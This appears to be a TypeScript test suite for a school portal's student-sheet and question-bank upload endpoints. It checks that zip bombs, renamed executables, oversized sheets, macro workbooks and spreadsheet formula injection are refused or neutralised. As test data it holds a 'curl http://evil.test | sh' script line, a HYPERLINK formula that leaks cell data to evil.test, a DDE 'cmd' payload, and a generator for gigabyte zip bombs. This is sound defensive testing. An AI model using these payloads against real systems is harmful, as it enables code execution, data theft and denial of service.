/**
 * Hostile files on the two spreadsheet imports, POST /api/students/upload and POST /api/questions/import:
 * zip bombs disguised as .xlsx (headers that claim gigabytes, 200 MB of real zeros, and zeros hidden
 * behind headers that claim a kilobyte), renamed executables, sheets over the row limit,
 * macro-enabled workbooks and formula injection. Each is refused with a clear message and nothing
 * is imported, or (text that legitimately starts with = + - @) imported and neutralised in every
 * sheet the portal writes back. The app runs in this process, so the bombs' cost in memory is measured.
 */
import zlib from 'node:zlib';
import * as XLSX from '@e965/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import type { LightMyRequestResponse } from 'fastify';
import { buildZip, crc32, multipartBody, xlsxParts, type SheetCell, type ZipInput } from '../support/fuzz';
import { TEMPLATE_COLUMNS } from '../../server/questions/sheet';
import { MAX_SHEET_ROWS } from '../../server/upload/spreadsheet';
import { describeDb, useTestApp } from './helper';
import { largeGift, sharedStringsWorkbook } from '../../bench/uploadFiles';
import { MAX_TEXT_IMPORT_BYTES } from '../../server/questions/types';

const MB = 1024 * 1024;
const UPLOAD_LIMIT = 2 * MB;
/** How much the server process may grow while it refuses one bomb. */
const MEMORY_BUDGET = 150 * MB;

const deflate = (b: Buffer) => zlib.deflateRawSync(b);
/** zlib.crc32 where Node has it (20.15+), else the test's own. */
const crcOf: (data: Buffer, previous?: number) => number = (zlib as { crc32?: (d: Buffer, p?: number) => number }).crc32 ?? crc32;

/**
 * `mb` megabytes of zeros as one raw deflate stream, built without ever holding them: one
 * megabyte deflated with a full flush (byte-aligned, no back-references across it) is repeated,
 * then a final empty block ends the stream. 200 MB come to about 200 KB.
 */
function deflatedZeros(mb: number): { data: Buffer; crc: number; size: number } {
  const one = Buffer.alloc(MB);
  const block = zlib.deflateRawSync(one, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  let crc = 0;
  for (let i = 0; i < mb; i++) crc = crcOf(one, crc);
  return { data: Buffer.concat([...Array<Buffer>(mb).fill(block), zlib.deflateRawSync(Buffer.alloc(0))]), crc, size: mb * MB };
}

const STUDENT_HEADER = ['fullname', 'username', 'email', 'phone'];
const studentRow = (i: number): string[] => [`Student ${String.fromCharCode(65 + (i % 26))}`, `bulk${i}`, `bulk${i}@example.org`, String(9_000_000_000 + i)];

/** A workbook as SheetJS writes it (like a real spreadsheet program). */
function workbook(sheetName: string, rows: unknown[][]): Buffer {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), sheetName);
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx', compression: true }) as Buffer;
}

/** Every cell of every sheet of a workbook the portal wrote. */
function cellsOf(file: Buffer): { ref: string; cell: XLSX.CellObject }[] {
  const wb = XLSX.read(file, { type: 'buffer', cellFormula: true });
  return wb.SheetNames.flatMap((name) => {
    const sheet = wb.Sheets[name];
    return Object.keys(sheet)
      .filter((k) => !k.startsWith('!'))
      .map((ref) => ({ ref: `${name}!${ref}`, cell: sheet[ref] as XLSX.CellObject }));
  });
}

/** No cell is a formula and no text cell starts with a character that makes a spreadsheet run it. */
function expectNeutralised(file: Buffer) {
  const cells = cellsOf(file);
  expect(cells.length).toBeGreaterThan(0);
  for (const { ref, cell } of cells) {
    expect(cell.f, `${ref} holds a formula`).toBeUndefined();
    if (cell.t === 's') expect(String(cell.v), `${ref} would run as a formula`).not.toMatch(/^[=+\-@\t\r]/);
  }
  return cells.map(({ cell }) => cell.v);
}

const DANGEROUS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click for your marks")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];

describeDb('upload abuse', () => {
  const t = useTestApp();
  let headToken: string;
  let teacherToken: string;
  let subject: number;
  let module: number;
  const moduleName = '@SUM(1+1)';

  beforeAll(async () => {
    headToken = await t.login('department-head', 'DEPARTMENT-HEAD');
    teacherToken = await t.login('teacher', 'TEACHER');
    const db = t.portal.database.db;
    subject = (await db.selectFrom('subjects').select('id').where('code', '=', 'CS201').executeTakeFirstOrThrow()).id;
    const res = await t.request('POST', '/api/modules', { token: teacherToken, body: { course_outcome_name: moduleName, subject_id: subject } });
    expect(res.statusCode, res.body.slice(0, 500)).toBe(201);
    module = res.json().data.id;
  });

  const send = (url: string, token: string, fields: Record<string, string | number>, file: { name: string; content: Buffer }) => {
    const body = multipartBody([
      ...Object.entries(fields).map(([name, value]) => ({ name, value: String(value) })),
      { name: 'file', value: file.content, filename: file.name, type: 'application/octet-stream' },
    ]);
    return t.portal.app.inject({ method: 'POST', url, payload: body.payload, headers: { 'content-type': body.contentType, authorization: `Bearer ${token}` } });
  };
  const uploadStudents = (content: Buffer, name = 'class.xlsx') => send('/api/students/upload', headToken, { semester: '3', batch: '2026' }, { name, content });
  const importQuestions = (content: Buffer, name = 'bank.xlsx') => send('/api/questions/import', teacherToken, { subject, module }, { name, content });

  const count = async (table: 'users' | 'questions') =>
    Number((await t.portal.database.db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
  const counts = async () => ({ users: await count('users'), questions: await count('questions') });

  /** Refused with this status and message, in the envelope, and nothing stored by either import. */
  async function expectRefused(send: () => Promise<LightMyRequestResponse>, status: number, message: RegExp) {
    const before = await counts();
    const res = await send();
    expect(res.statusCode, res.body.slice(0, 500)).toBe(status);
    const body = res.json();
    expect(body.success).toBe(false);
    expect(body.message).toMatch(message);
    expect(await counts()).toEqual(before);
    return body;
  }

  const routes = [
    { name: 'the student sheet upload', upload: (file: Buffer, name?: string) => uploadStudents(file, name) },
    { name: 'the question import', upload: (file: Buffer, name?: string) => importQuestions(file, name) },
  ];

  describe('zip bombs disguised as .xlsx', () => {
    const bombs: { what: string; file: Buffer; quick?: boolean }[] = [];

    beforeAll(() => {
      const sheet = xlsxParts('Students', [STUDENT_HEADER, studentRow(1)]);
      const zeros200 = deflatedZeros(200);
      // The biggest bomb that still fits the 2 MB upload limit: about 1.9 GB of zeros.
      const zerosMax = deflatedZeros(1900);
      const claim = (entry: ZipInput, claimSize: number): ZipInput => ({ ...entry, claimSize });
      bombs.push(
        { what: 'entries that claim 4 GB unpacked', file: buildZip([...sheet.slice(0, 4), claim(sheet[4], 0xfffffff0), claim({ name: 'xl/media/image1.png', content: Buffer.alloc(100) }, 0xfffffff0)], deflate) },
        { what: '200 MB of zeros as its worksheet', file: buildZip([...sheet.slice(0, 4), { name: 'xl/worksheets/sheet1.xml', deflated: zeros200 }], deflate) },
        { what: '200 MB of zeros behind headers that claim 1 KB', file: buildZip([...sheet, { name: 'xl/media/image1.png', deflated: zeros200, claimSize: 1024 }], deflate) },
        { what: '200 MB of zeros as its worksheet, claiming 1 KB', file: buildZip([...sheet.slice(0, 4), { name: 'xl/worksheets/sheet1.xml', deflated: zeros200, claimSize: 1024 }], deflate) },
        { what: '1.9 GB of zeros claiming 1 KB', file: buildZip([...sheet, { name: 'xl/media/image1.png', deflated: zerosMax, claimSize: 1024 }], deflate), quick: true },
      );
    }, 60_000);

    it('are small files that pass the upload size limit', () => {
      for (const bomb of bombs) expect(bomb.file.length, bomb.what).toBeLessThan(UPLOAD_LIMIT);
      // The repeated-block stream of zeros is a valid deflate stream (checked on a small one).
      const zeros = zlib.inflateRawSync(deflatedZeros(4).data);
      expect(zeros.length).toBe(4 * MB);
    });

    for (const route of routes) {
      it(`are refused by ${route.name} with 413, nothing imported, memory and time bounded`, async () => {
        await route.upload(workbook('Students', [STUDENT_HEADER])); // warm up the parser before measuring
        for (const bomb of bombs) {
          const rss = process.memoryUsage().rss;
          const peak = process.resourceUsage().maxRSS * 1024;
          const started = performance.now();
          await expectRefused(() => route.upload(bomb.file), 413, /unpacks to more data than/);
          const elapsed = performance.now() - started;
          const grown = process.memoryUsage().rss - rss;
          const peakGrown = process.resourceUsage().maxRSS * 1024 - peak;
          expect(grown, `${bomb.what}: the process grew by ${Math.round(grown / MB)} MB`).toBeLessThan(MEMORY_BUDGET);
          expect(peakGrown, `${bomb.what}: the peak grew by ${Math.round(peakGrown / MB)} MB`).toBeLessThan(MEMORY_BUDGET);
          // Refused from its headers and a bounded unpack, not after inflating gigabytes (which takes seconds).
          if (bomb.quick) expect(elapsed, `${bomb.what}: took ${Math.round(elapsed)} ms`).toBeLessThan(2_000);
        }
      });
    }
  });

  describe('renamed executables', () => {
    const executables = [
      { what: 'an ELF binary named .xlsx', name: 'class.xlsx', content: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]) },
      { what: 'a Windows executable named .xlsx', name: 'class.xlsx', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from('PE\0\0'), Buffer.alloc(4096, 0xcc)]) },
      { what: 'a Windows executable named .xls', name: 'class.xls', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4096, 0xcc)]) },
      { what: 'a shell script named .xlsx', name: 'class.xlsx', content: Buffer.from('#!/bin/sh\ncurl http://evil.test | sh\n') },
      { what: 'a zip header glued to an executable', name: 'class.xlsx', content: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('MZ'), Buffer.alloc(4096, 0xcc)]) },
    ];
    for (const route of routes) {
      it.each(executables)(`${route.name} refuses $what as not Excel`, async ({ name, content }) => {
        await expectRefused(() => route.upload(content, name), 400, /Only Excel files are allowed/);
      });
    }
  });

  describe('sheets over the row limit', () => {
    it(`the student sheet upload refuses ${MAX_SHEET_ROWS + 1} rows`, async () => {
      const file = workbook('Students', [STUDENT_HEADER, ...Array.from({ length: MAX_SHEET_ROWS + 1 }, (_, i) => studentRow(i))]);
      expect(file.length).toBeLessThan(UPLOAD_LIMIT);
      const body = await expectRefused(() => uploadStudents(file), 400, new RegExp(`more than ${MAX_SHEET_ROWS} student rows`));
      expect(body.data.errors.file).toMatch(/split it/);
    });

    it(`the question import refuses ${MAX_SHEET_ROWS + 1} rows (its limit is 5,000)`, async () => {
      const row = (i: number) => [`Question ${i}?`, 'true_false', '', '', '', '', '', '', 'TRUE', '', '', 1, 1, 'easy', '', ''];
      const file = workbook('Questions', [[...TEMPLATE_COLUMNS], ...Array.from({ length: MAX_SHEET_ROWS + 1 }, (_, i) => row(i))]);
      expect(file.length).toBeLessThan(UPLOAD_LIMIT);
      await expectRefused(() => importQuestions(file), 400, /more than 5000 question rows; split it/);
    });
  });

  describe('files that unpack to far more than they weigh', () => {
    it('a workbook whose shared strings unpack to about 57 MB (0.1 MB on the wire) is refused by both imports from its declared size, before parsing', async () => {
      const file = sharedStringsWorkbook({ strings: 12_000, length: 5_000 });
      expect(file.length).toBeLessThan(0.3 * MB);
      for (const route of routes) {
        const body = await expectRefused(() => route.upload(file), 413, /unpacks to more data than a (student|question) sheet can hold: xl\/sharedStrings\.xml unpacks to 57\.4 MB, and one part may unpack to at most (6|12) MB/);
        expect(body.data.errors.file, route.name).toBe(body.message);
      }
    });

    it('a workbook of 30 MB in small parts is refused by its total declared size', async () => {
      const parts = xlsxParts('Students', [STUDENT_HEADER, studentRow(1)]);
      const filler = (i: number) => ({ name: `xl/media/filler${i}.xml`, content: Buffer.alloc(5 * MB, 0x20 + i) });
      const file = buildZip([...parts, ...[0, 1, 2, 3, 4, 5].map(filler)], deflate);
      expect(file.length).toBeLessThan(UPLOAD_LIMIT);
      const body = await expectRefused(() => uploadStudents(file), 413, /it unpacks to 30 MB, and a workbook may unpack to at most 8 MB/);
      expect(body.data.errors.file).toMatch(/at most 8 MB/);
    });

    it('a workbook of 60,000 short shared strings (1 MB) is refused by its shared-string count', async () => {
      const file = sharedStringsWorkbook({ strings: 60_000, length: 16 });
      const body = await expectRefused(() => uploadStudents(file), 413, /it holds 60,000 texts, and a workbook may hold at most 50,000/);
      expect(body.data.errors.file).toMatch(/at most 50,000/);
    });

    it('a workbook whose header understates its shared strings is still read within the size limits', async () => {
      const file = sharedStringsWorkbook({ strings: 20_000, length: 16, claimCount: 10 });
      const res = await uploadStudents(file);
      // The sheet itself is one valid row: the lie costs the parser no more than the declared sizes allow.
      expect(res.statusCode, res.body.slice(0, 300)).toBe(201);
      expect(res.json().data.imported).toBe(1);
    });

    it(`a GIFT or Aiken file over ${MAX_TEXT_IMPORT_BYTES} bytes is refused with 413 naming the file and the limit; one just under it imports`, async () => {
      const big = largeGift(MAX_TEXT_IMPORT_BYTES + 10_000);
      const refused = (format: string, name: string) => () =>
        send('/api/questions/import', teacherToken, { subject, module, format }, { name, content: big });
      let body = await expectRefused(refused('gift', 'bank.gift'), 413, /^A GIFT file may be at most 1 MB \(1,048,576 bytes\); this one has [\d,]+ bytes, so split it$/);
      expect(body.data.errors.file).toBe(body.message);
      const aiken = Buffer.concat([Buffer.from('Which?\nA. yes\nB. no\nANSWER: A\n\n'.repeat(40_000))]);
      expect(aiken.length).toBeGreaterThan(MAX_TEXT_IMPORT_BYTES);
      body = await expectRefused(() => send('/api/questions/import', teacherToken, { subject, module, format: 'aiken' }, { name: 'bank.aiken', content: aiken }), 413, /^An Aiken file may be at most 1 MB/);
      expect(body.data.errors.file).toMatch(/at most 1 MB/);

      const fits = largeGift(MAX_TEXT_IMPORT_BYTES - 20_000);
      const res = await send('/api/questions/import', teacherToken, { subject, module, format: 'gift' }, { name: 'bank.gift', content: fits });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(201);
      expect(res.json().data.imported).toBeGreaterThan(900);
    });
  });

  describe('macro-enabled workbooks', () => {
    const rows = [STUDENT_HEADER, ['Mac Rowe', 'macro1', 'macro1@example.org', '9876500101']];

    it('the hand-made workbook without its macro is a valid sheet (the control)', async () => {
      const res = await uploadStudents(buildZip(xlsxParts('Students', rows), deflate));
      expect(res.statusCode, res.body.slice(0, 500)).toBe(201);
      expect(res.json().data.imported).toBe(1);
    });

    for (const route of routes) {
      it(`${route.name} refuses an .xlsx holding xl/vbaProject.bin`, async () => {
        const file = buildZip(xlsxParts('Students', [STUDENT_HEADER, ['Mac Rowe', 'macro2', 'macro2@example.org', '9876500102']], { macro: true }), deflate);
        const body = await expectRefused(() => route.upload(file), 400, /Macro-enabled workbooks are not allowed/);
        expect(body.data.errors.file).toMatch(/Macro-enabled/);
      });
    }

    it('the student sheet upload refuses an old .xls with a VBA project', async () => {
      const xls = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504), Buffer.from('_VBA_PROJECT', 'utf16le'), Buffer.alloc(2048)]);
      await expectRefused(() => uploadStudents(xls, 'class.xls'), 400, /Macro-enabled workbooks are not allowed/);
    });
  });

  describe('formula injection', () => {
    it('the student sheet upload refuses names that are formulas, naming each row', async () => {
      const rows = [STUDENT_HEADER, ...DANGEROUS.map((name, i) => [name, `inject${i}`, `inject${i}@example.org`, `98765002${String(i).padStart(2, '0')}`])];
      const body = await expectRefused(() => uploadStudents(workbook('Students', rows)), 400, /No students were imported: 4 rows have errors \(row 2, fullname: /);
      expect(body.data.rows.map((r: { row: number; field: string }) => [r.row, r.field])).toEqual([[2, 'fullname'], [3, 'fullname'], [4, 'fullname'], [5, 'fullname']]);
    });

    it('the initial-password sheet of the student upload neutralises values that start like formulas', async () => {
      const formulaCell: SheetCell = { formula: 'HYPERLINK("http://evil.test","Eve Evil")', shows: 'Eve Evil' };
      const rows: SheetCell[][] = [
        STUDENT_HEADER,
        ['Amy Minus', '-amy', 'amy.minus@example.org', '9876500301'],
        ['Bob At', '@bob', '+bob@example.org', '9876500302'],
        ['Dora Dash', 'dora.dash', '-2+3@example.org', '9876500303'],
        [formulaCell, 'eve.evil', 'eve.evil@example.org', '9876500304'],
      ];
      const res = await uploadStudents(buildZip(xlsxParts('Students', rows), deflate));
      expect(res.statusCode, res.body.slice(0, 500)).toBe(201);
      const { accounts, passwordSheet } = res.json().data;
      expect(accounts.map((a: { username: string }) => a.username)).toEqual(['-amy', '@bob', 'dora.dash', 'eve.evil']);
      // The formula cell was read as the text it showed: no formula reaches the database.
      const eve = await t.portal.database.db.selectFrom('users').select('fullname').where('username', '=', 'eve.evil').executeTakeFirstOrThrow();
      expect(eve.fullname).toBe('Eve Evil');
      const values = expectNeutralised(Buffer.from(passwordSheet, 'base64'));
      expect(values).toEqual(expect.arrayContaining(["'-amy", "'@bob", "'+bob@example.org", "'-2+3@example.org", 'Eve Evil']));
    });

    it('the question import keeps such text as written, and the xlsx export neutralises every cell', async () => {
      const header = [...TEMPLATE_COLUMNS];
      const at = (column: string) => header.indexOf(column as (typeof TEMPLATE_COLUMNS)[number]);
      const row = (values: Record<string, string | number>) => header.map((c) => values[c] ?? '');
      const rows = [
        header,
        row({ question: DANGEROUS[0], type: 'single', option_a: DANGEROUS[1], option_b: DANGEROUS[2], option_c: DANGEROUS[3], option_d: '=1+1', correct: 'B', marks: 1, time_required: 1, difficulty: 'easy' }),
        row({ question: '-2+3 = ?', type: 'numeric', correct: 1, marks: 1, time_required: 1, difficulty: 'easy', module: moduleName }),
        row({ question: '@SUM(A1:A9) adds what?', type: 'short_answer', correct: '=A1+A9 | +cells', marks: 1, time_required: 1, difficulty: 'medium' }),
      ];
      expect(at('question')).toBe(0);
      const imported = await importQuestions(workbook('Questions', rows));
      expect(imported.statusCode, imported.body.slice(0, 500)).toBe(201);
      const ids: number[] = imported.json().data.ids;
      expect(ids).toHaveLength(3);
      const stored = await t.portal.database.db.selectFrom('questions').select(['id', 'question']).where('id', 'in', ids).orderBy('id').execute();
      expect(stored.map((q) => q.question)).toEqual([DANGEROUS[0], '-2+3 = ?', '@SUM(A1:A9) adds what?']);

      const exported = await t.request('GET', `/api/questions/export?format=xlsx&ids=${encodeURIComponent(JSON.stringify(ids))}`, { token: teacherToken });
      expect(exported.statusCode, exported.body).toBe(200);
      expect(exported.headers['content-disposition']).toMatch(/attachment; filename=".*\.xlsx"/);
      const values = expectNeutralised(exported.rawPayload);
      expect(values).toEqual(expect.arrayContaining([`'${DANGEROUS[0]}`, `'${DANGEROUS[1]}`, `'${DANGEROUS[2]}`, `'${DANGEROUS[3]}`, "'=1+1", "'-2+3 = ?", "'@SUM(A1:A9) adds what?", `'${moduleName}`]));

      // Neutralising loses nothing: the export imports back to the same text.
      const again = await importQuestions(exported.rawPayload, 'export.xlsx');
      expect(again.statusCode, again.body.slice(0, 500)).toBe(201);
      const back = await t.portal.database.db.selectFrom('questions').select('question').where('id', 'in', again.json().data.ids).orderBy('id').execute();
      expect(back.map((q) => q.question)).toEqual(stored.map((q) => q.question));
    });
  });
});

describeDb('imports at once', () => {
  const t = useTestApp({ IMPORT_CONCURRENCY: '1' });

  it('beyond IMPORT_CONCURRENCY an import is answered 503 with Retry-After and imports nothing; the place is free again afterwards', async () => {
    const token = await t.login('department-head', 'DEPARTMENT-HEAD');
    const sheet = (prefix: string) => workbook('Students', [STUDENT_HEADER, ...Array.from({ length: 300 }, (_, i) => [`Student ${String.fromCharCode(65 + (i % 26))}`, `${prefix}${i}`, `${prefix}${i}@example.org`, String(9_100_000_000 + i)])]);
    const upload = (file: Buffer) => {
      const body = multipartBody([
        { name: 'semester', value: '3' },
        { name: 'batch', value: '2026' },
        { name: 'file', value: file, filename: 'class.xlsx', type: 'application/octet-stream' },
      ]);
      return t.portal.app.inject({ method: 'POST', url: '/api/students/upload', payload: body.payload, headers: { 'content-type': body.contentType, authorization: `Bearer ${token}` } });
    };
    const answers = await Promise.all([upload(sheet('first')), upload(sheet('second'))]);
    const statuses = answers.map((r) => r.statusCode).sort();
    expect(statuses, answers.map((r) => r.body.slice(0, 200)).join('\n')).toEqual([201, 503]);
    const busy = answers.find((r) => r.statusCode === 503)!;
    expect(busy.headers['retry-after']).toBe('10');
    expect(busy.json()).toMatchObject({ success: false, message: 'The server is reading another import; try again in 10 seconds', data: { retryAfterSeconds: 10 } });
    const users = t.portal.database.db.selectFrom('users').select('username');
    const refusedPrefix = answers[0].statusCode === 503 ? 'first' : 'second';
    expect(await users.where('username', 'like', `${refusedPrefix}%`).execute()).toEqual([]);

    const again = await upload(sheet('third'));
    expect(again.statusCode, again.body.slice(0, 200)).toBe(201);
    expect(again.json().data.imported).toBe(300);
  });
});
